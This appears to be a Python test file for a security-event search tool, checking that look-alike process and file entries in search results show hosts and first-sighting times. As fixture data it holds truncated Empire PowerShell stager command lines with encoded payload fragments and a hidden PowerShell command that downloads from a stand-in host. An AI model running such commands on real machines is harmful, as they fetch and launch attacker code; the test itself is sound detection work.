r"""Search hits whose shown labels read alike carry hosts and first sighting, not only exact twins (review T9, F7).

Two Empire stagers, on hr001 (2019) and workstation5 (2020), both read
``"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -noP -sta -w 1 -enc SQBmACgA…``
in the search list: their base64 differs only from the 103rd character on.
``seen_on`` was given only to hits of one type and the same full value, so
neither row said where or when.
"""

from __future__ import annotations

from datetime import datetime

from graphsiem.model import Entity, Sighting
from tests.api.conftest import Api

STAGER = '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -noP -sta -w 1 -enc  '
# The two stagers' command lines as the datasets hold them (their first 150 characters: the
# base64 of "If($PSVersionTable..." in two casings, which differ from the 103rd character on).
HR001 = STAGER + "SQBmACgAJABQAFMAVgBFAHIAUwBpAE8AbgBUAEEAQgBsAEUALgBQAFMAVgBlAHIAcwBJAE8ATgAuAE0AQQBqAG8AcgAg"
WORKSTATION5 = STAGER + "SQBmACgAJABQAFMAVgBFAFIAUwBpAE8AbgBUAGEAQgBsAEUALgBQAFMAVgBFAHIAUwBJAE8AbgAuAE0AYQBqAE8AUgAg"
DOWNLOADER = '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -nop -w hidden -c iwr x.example'
"""A powershell command line that departs from the stagers within what a row shows."""


def _epoch(text: str) -> float:
    return datetime.fromisoformat(text.replace("Z", "+00:00")).timestamp()


def test_rows_that_read_alike_say_where_and_since_when(api: Api) -> None:
    assert HR001[:102] == WORKSTATION5[:102] and HR001 != WORKSTATION5
    store = api.ctx.store
    store.upsert_entities([
        Entity("process", "8df7238ec09b3fae8648e1a2b170389c", HR001, {"command_line": HR001}),
        Entity("process", "27171021424c0ffb6acdd0912bb58f5b", WORKSTATION5, {"command_line": WORKSTATION5}),
        Entity("process", "0badc0de", DOWNLOADER, {"command_line": DOWNLOADER}),
    ])
    store.upsert_sightings([
        Sighting("hr001", ("process", "8df7238ec09b3fae8648e1a2b170389c"), _epoch("2019-05-18T20:36:49.800Z"),
                 _epoch("2019-05-18T20:36:50Z"), 1),
        Sighting("workstation5", ("process", "27171021424c0ffb6acdd0912bb58f5b"), _epoch("2020-09-04T20:09:55Z"),
                 _epoch("2020-09-04T20:09:56Z"), 1),
        Sighting("ws-7", ("process", "0badc0de"), _epoch("2021-01-01T00:00:00Z"), _epoch("2021-01-01T00:00:01Z"), 1),
    ])
    store.flush()
    items = api.get("/v1/entities", role="analyst", params={"q": "powershell.exe"}).json()["items"]
    told = {hit["key"]: (hit["seen_on"], hit["seen_hosts"], hit["first_seen"]) for hit in items}
    assert told == {
        "8df7238ec09b3fae8648e1a2b170389c": (["hr001"], 1, "2019-05-18T20:36:49.800Z"),
        "27171021424c0ffb6acdd0912bb58f5b": (["workstation5"], 1, "2020-09-04T20:09:55.000Z"),
        # departs from them at the 67th character (case aside): its row reads differently, nothing is read for it
        "0badc0de": (None, None, None),
    }


def test_values_differing_only_in_case_read_alike(api: Api) -> None:
    store = api.ctx.store
    store.upsert_entities([
        Entity("file", "a", "C:\\Windows\\Temp\\UPD.EXE", {}),
        Entity("file", "b", "c:\\windows\\temp\\upd.exe", {}),
        Entity("process", "c", "C:\\Windows\\Temp\\upd.exe", {}),  # another type: its row says so
    ])
    store.upsert_sightings([
        Sighting("ws-1", ("file", "a"), _epoch("2024-01-01T00:00:00Z"), _epoch("2024-01-01T00:00:00Z"), 1),
        Sighting("ws-2", ("file", "b"), _epoch("2024-02-01T00:00:00Z"), _epoch("2024-02-01T00:00:00Z"), 1),
    ])
    store.flush()
    items = api.get("/v1/entities", role="analyst", params={"q": "upd.exe"}).json()["items"]
    told = {hit["key"]: (hit["seen_on"], hit["first_seen"]) for hit in items}
    assert told == {"a": (["ws-1"], "2024-01-01T00:00:00.000Z"), "b": (["ws-2"], "2024-02-01T00:00:00.000Z"),
                    "c": (None, None)}
